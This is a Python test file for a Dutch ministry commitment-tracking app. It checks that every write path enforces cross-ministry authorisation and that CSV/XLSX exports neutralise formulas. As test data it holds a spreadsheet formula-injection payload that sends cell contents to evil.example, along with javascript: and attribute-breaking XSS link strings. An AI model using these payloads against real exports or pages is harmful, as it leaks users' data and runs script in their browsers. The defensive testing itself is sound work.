"""Trust: every door that writes asks tracker.authz about the item the write touches; exports stay inert.

One test per door (forms, list import on the web and the command line, intake on the web and as a
service, letters, the services themselves), each an attempt by an officer on another ministry's item.
"""
from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func
from sqlmodel import select

from tracker import clock, db, exporter, importer
from tracker.letters import voortgangsbrief as letters
from tracker.authz import Actor, system
from tracker.cli import main
from tracker.errors import Forbidden, ValidationError
from tracker.inert import is_web_link, neutralise_cell, restore_cell
from tracker.models import AuditEvent, Ministry
from tracker.services import items
from tracker.services import intake as intake_service
from tracker.intake.proposal import propose
from tracker.services.queries import ListFilter

SEEDS = Path(__file__).resolve().parents[1] / "seeds" / "papers"
OCW_ITEM = ("TK", "toezegging", "VGR-EMANC-2021 T02")  # demo: a toezegging of OCW
BZK_ITEM = ("EK", "commissiebrief", "174728.03U")  # demo: a commissiebrief of BZK
HEADER = "soort;kamer;nummer;titel;ministerie;datum;status\n"


def officer(engine, code: str) -> Actor:
    with db.transaction(engine) as session:
        ministry = session.exec(select(Ministry).where(Ministry.code == code)).one()
        return Actor(f"{code.lower()} (officer, {code})", "officer", ministry.id, code)


def snapshot(engine, key) -> tuple:
    """What a takeover would change: ministry, title, stand van zaken, status, closing date, version, audit events."""
    chamber, kind, nummer = key
    with db.transaction(engine) as session:
        item = items.find_item(session, chamber, kind, nummer)
        events = session.exec(select(func.count()).select_from(AuditEvent)
                              .where(AuditEvent.item_id == item.id)).one()
        return (item.ministry_id, item.title, item.stand_van_zaken, item.status, item.closed_on, item.version,
                events)


def takeover_csv(tmp_path, ministry="BZK") -> Path:
    path = tmp_path / "overname.csv"
    path.write_text(HEADER + f"toezegging;TK;VGR-EMANC-2021 T02;Overgenomen;{ministry};2020-11-02;vervallen\n",
                    encoding="utf-8")
    return path


# ------------------------------------------------------------------------------------------ import
def test_import_service_refuses_another_ministrys_item_and_writes_nothing(demo, tmp_path):
    before = snapshot(demo, OCW_ITEM)
    with pytest.raises(ValidationError) as refused, db.transaction(demo) as session:
        importer.import_file(session, takeover_csv(tmp_path), officer(demo, "BZK"))
    assert "rij 2, kolom 'ministerie': toezegging VGR-EMANC-2021 T02 hoort bij OCW" in str(refused.value)
    assert snapshot(demo, OCW_ITEM) == before


def test_import_refuses_moving_an_own_item_to_another_ministry(demo, tmp_path):
    before = snapshot(demo, BZK_ITEM)
    path = tmp_path / "verhuis.csv"
    path.write_text(HEADER + "commissiebrief;EK;174728.03U;Verhuisd;OCW;2024-10-01;\n", encoding="utf-8")
    with pytest.raises(ValidationError) as refused, db.transaction(demo) as session:
        importer.import_file(session, path, officer(demo, "BZK"))
    assert "u mag alleen items van BZK" in str(refused.value) and "OCW" in str(refused.value)
    assert snapshot(demo, BZK_ITEM) == before


def test_import_problems_are_found_after_an_earlier_problem_too(demo, tmp_path):
    """A row refused for its ministry is reported even when an earlier row already failed (nothing is written
    after the first problem, but every row is still checked)."""
    path = tmp_path / "twee.csv"
    path.write_text(HEADER + "motie;TK;1, nr. 1;x;BZK;geen datum;\n"
                    + "toezegging;TK;VGR-EMANC-2021 T02;Overgenomen;BZK;2020-11-02;\n", encoding="utf-8")
    with pytest.raises(ValidationError) as refused, db.transaction(demo) as session:
        importer.import_file(session, path, officer(demo, "BZK"))
    rows = {problem.row for problem in refused.value.problems}
    assert rows == {2, 3}


def test_web_import_refuses_another_ministrys_item(app, demo, login_as):
    before = snapshot(demo, OCW_ITEM)
    client = login_as("bzk")
    csv = HEADER + "toezegging;TK;VGR-EMANC-2021 T02;Overgenomen;BZK;2020-11-02;vervallen\n"
    response = client.post("/import", data={"file": (io.BytesIO(csv.encode()), "lijst.csv")},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "VGR-EMANC-2021 T02 hoort bij OCW" in page
    assert snapshot(demo, OCW_ITEM) == before


def test_cli_import_as_an_officer_refuses_another_ministrys_item(demo, tmp_path):
    before = snapshot(demo, OCW_ITEM)
    result = CliRunner().invoke(main, ["import", str(takeover_csv(tmp_path)), "--door", "bzk"])
    assert result.exit_code == 1 and "hoort bij OCW" in result.output
    assert snapshot(demo, OCW_ITEM) == before
    # the operator without --door acts as the system, and the same file then applies
    assert CliRunner().invoke(main, ["import", str(takeover_csv(tmp_path, "OCW"))]).exit_code == 0


# ------------------------------------------------------------------------------------------ intake
def _takeover_rows():
    row = {name: "" for name in importer.COLUMNS}
    row.update(soort="commissiebrief", kamer="EK", nummer="174728.03U", titel="Overgenomen", ministerie="OCW",
               datum="2024-10-01")
    return row


def test_intake_service_refuses_another_ministrys_item(demo):
    before = snapshot(demo, BZK_ITEM)
    proposal = propose(next(SEEDS.glob("004_*.txt")).read_text(encoding="utf-8"))
    with pytest.raises(ValidationError) as refused, db.transaction(demo) as session:
        intake_service.save(session, [_takeover_rows()], proposal, officer(demo, "OCW"), "brief.txt")
    assert "commissiebrief 174728.03U hoort bij BZK" in str(refused.value)
    assert snapshot(demo, BZK_ITEM) == before


def test_web_intake_save_refuses_another_ministrys_item(app, demo, login_as):
    before = snapshot(demo, BZK_ITEM)
    client = login_as("ocw")
    form = {"actie": "opslaan", "tekst": next(SEEDS.glob("004_*.txt")).read_text(encoding="utf-8"),
            "item-0-opnemen": "1", **{f"item-0-{k}": v for k, v in _takeover_rows().items()}}
    response = client.post("/document-invoeren/", data=form)
    assert response.status_code == 400 and "hoort bij BZK" in response.get_data(as_text=True)
    assert snapshot(demo, BZK_ITEM) == before


# --------------------------------------------------------------------------------- services and forms
WRITES = {
    "edit": lambda s, i, a: items.update_item(s, i, {"title": "Overgenomen"}, a),
    "status": lambda s, i, a: items.change_status(s, i, "vervallen", a),
    "walk": lambda s, i, a: items.walk_to_status(s, i, "vervallen", a),
    "delay": lambda s, i, a: items.record_delay(s, i, date(2021, 1, 4), a),
    "answer": lambda s, i, a: items.record_answer(s, i, date(2021, 1, 4), a, document_title="x"),
    "override": lambda s, i, a: items.override_deadline(s, i, date(2021, 6, 1), "reden", a),
    "archive": lambda s, i, a: items.archive_item(s, i, a, "reden"),
    "reopen": lambda s, i, a: items.reopen_item(s, i, a, "reden"),
}


@pytest.mark.parametrize("write", sorted(WRITES))
def test_every_item_service_refuses_an_officer_of_another_ministry(demo, write):
    before = snapshot(demo, OCW_ITEM)
    with pytest.raises(Forbidden), db.transaction(demo) as session:
        WRITES[write](session, items.find_item(session, *OCW_ITEM), officer(demo, "BZK"))
    assert snapshot(demo, OCW_ITEM) == before


def test_open_data_is_loaded_by_an_admin_only(demo):
    from tracker import tk
    from tracker.models import TkRecord

    fixtures = Path(__file__).parent / "fixtures" / "tk" / "base"
    with pytest.raises(Forbidden), db.transaction(demo) as session:
        tk.import_path(session, fixtures, officer(demo, "BZK"))
    with db.transaction(demo) as session:
        assert session.exec(select(func.count()).select_from(TkRecord)).one() == 0


def test_a_write_without_an_acting_user_is_refused(demo):
    """A door that forgot to say on whose behalf it writes gets no rights at all."""
    with pytest.raises(TypeError), db.transaction(demo) as session:
        items.update_item(session, items.find_item(session, *OCW_ITEM), {"title": "x"}, "iemand")


def test_service_refuses_moving_an_item_and_creating_for_another_ministry(demo):
    bzk = officer(demo, "BZK")
    with pytest.raises(Forbidden), db.transaction(demo) as session:
        item = items.find_item(session, *BZK_ITEM)
        items.update_item(session, item, {"ministry_id": officer(demo, "OCW").ministry_id}, bzk)
    with pytest.raises(Forbidden), db.transaction(demo) as session:
        items.create_item(session, items.ItemInput(kind="motie", chamber="TK", nummer="1, nr. 1", title="x",
                                                   ministry_code="OCW"), bzk)


def test_griffie_needs_a_note_in_the_service_too(demo):
    griffie = Actor("griffie (griffie)", "griffie")
    with pytest.raises(ValidationError, match="toelichting"), db.transaction(demo) as session:
        items.change_status(session, items.find_item(session, *OCW_ITEM), "vervallen", griffie)


def test_web_edit_cannot_move_an_item_to_another_ministry(app, demo, login_as):
    before = snapshot(demo, BZK_ITEM)
    client = login_as("bzk")
    with db.transaction(demo) as session:
        item = items.find_item(session, *BZK_ITEM)
        form = {"kind": item.kind, "chamber": item.chamber, "nummer": item.nummer, "title": "Verhuisd",
                "ministry_id": officer(demo, "OCW").ministry_id, "committee_id": 0, "version": item.version}
        url = f"/items/{item.id}/bewerken"
    assert client.post(url, data=form).status_code in (400, 403)
    assert snapshot(demo, BZK_ITEM) == before


def test_letter_for_another_ministry_is_refused(demo, tmp_path):
    with db.transaction(demo) as session:
        ministry = session.exec(select(Ministry).where(Ministry.code == "OCW")).one()
        chosen = [items.find_item(session, *OCW_ITEM)]
        view = letters.LetterView(ministry_name=ministry.name, chamber="TK", dagtekening=date(2021, 11, 26),
                                  betreft="Voortgang", kenmerk="x", intro="", closing="", signer_function="minister",
                                  signer_name="", entries=[letters.entry_for(i) for i in chosen])
    with pytest.raises(Forbidden), db.transaction(demo) as session:
        letters.store_final(session, view, ministry, [items.find_item(session, *OCW_ITEM)], officer(demo, "BZK"),
                            tmp_path)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("version", [None, "", "abc"])
def test_a_save_without_a_valid_version_is_refused(app, demo, login_as, version):
    client = login_as("bzk")
    before = snapshot(demo, BZK_ITEM)
    with db.transaction(demo) as session:
        id_ = items.find_item(session, *BZK_ITEM).id
    data = {"stand_van_zaken": "Ongezien overschreven"} | ({} if version is None else {"version": version})
    response = client.post(f"/items/{id_}/stand", data=data)
    assert response.status_code == 400 and "versie" in response.get_data(as_text=True)
    assert snapshot(demo, BZK_ITEM) == before


def test_answer_link_must_be_http(app, demo, login_as):
    client = login_as("bzk")
    with db.transaction(demo) as session:
        item = items.find_item(session, "TK", "kamervragen", "2023Z12033")
        id_, version = item.id, item.version
    response = client.post(f"/items/{id_}/antwoord", data={"answered_on": "21-11-2023", "title": "Antwoord",
                                                           "url": "javascript:alert(1)", "version": version})
    assert response.status_code == 400 and "http" in response.get_data(as_text=True)
    with pytest.raises(ValidationError, match="http"), db.transaction(demo) as session:
        items.record_answer(session, items.get_item(session, id_), date(2023, 11, 21), system("t"),
                            document_fields={"url": "javascript:alert(1)"})


# ------------------------------------------------------------------------------------------ exports
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik hier")'


def _with_evil_titles(engine) -> list[str]:
    titles = [EVIL, "+31 70 123", "-2 graden", "@SUM(A1)", "\tinspringing", "'citaat'", "'=al beschermd"]
    with db.transaction(engine) as session:
        for n, title in enumerate(titles):
            items.create_item(session, items.ItemInput(kind="kamervragen", chamber="TK", nummer=f"2026Z9{n:04d}",
                                                       title=title, ministry_code="BZK",
                                                       start_date=date(2026, 1, 5)), system("t"))
    return titles


def test_csv_export_neutralises_formulas_and_the_import_restores_them(demo, tmp_path):
    titles = _with_evil_titles(demo)
    path = tmp_path / "export.csv"
    with db.transaction(demo) as session, path.open("w", encoding="utf-8", newline="") as stream:
        exporter.write_csv(exporter.export_rows(session, ListFilter(kind="kamervragen", state="alle"),
                                                clock.today()), stream)
    text = path.read_text(encoding="utf-8")
    cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(";")]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
    assert "'=HYPERLINK" in text
    with db.transaction(demo) as session:
        summary = importer.import_file(session, path, system("t"))
    assert summary.updated.count == 0 and summary.unchanged.count >= len(titles)  # every title came back as it was


def test_xlsx_export_writes_strings_never_formulas_and_round_trips(demo, tmp_path):
    titles = _with_evil_titles(demo)
    path = tmp_path / "export.xlsx"
    with db.transaction(demo) as session, path.open("wb") as stream:
        exporter.write_xlsx(exporter.export_rows(session, ListFilter(kind="kamervragen", state="alle"),
                                                 clock.today()), stream)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    shown = {row[3] for row in load_workbook(path).active.iter_rows(min_row=2, values_only=True)}
    assert {title.strip() for title in titles} <= shown  # a title is stored stripped
    with db.transaction(demo) as session:
        summary = importer.import_file(session, path, system("t"))
    assert summary.updated.count == 0


def test_overdue_csv_is_neutralised_too(app, demo, login_as):
    with db.transaction(demo) as session:
        items.create_item(session, items.ItemInput(kind="kamervragen", chamber="TK", nummer="2020Z00001", title=EVIL,
                                                   ministry_code="BZK", start_date=date(2020, 1, 6)), system("t"))
    text = login_as("griffie").get("/te-laat?achterstand=alle&formaat=csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text


@given(st.text(max_size=30))
def test_restore_undoes_neutralise(text):
    assert restore_cell(neutralise_cell(text)) == text
    assert not neutralise_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("url, ok", [("https://www.tweedekamer.nl/x", True), ("http://a.nl", True),
                                     ("javascript:alert(1)", False), ("JavaScript:alert(1)", False),
                                     ("data:text/html,x", False), ("//evil.example", False), ("/relatief", False),
                                     ("https://a.nl/\"onmouseover=x", False)])
def test_links_are_web_links_only(url, ok):
    assert is_web_link(url) is ok
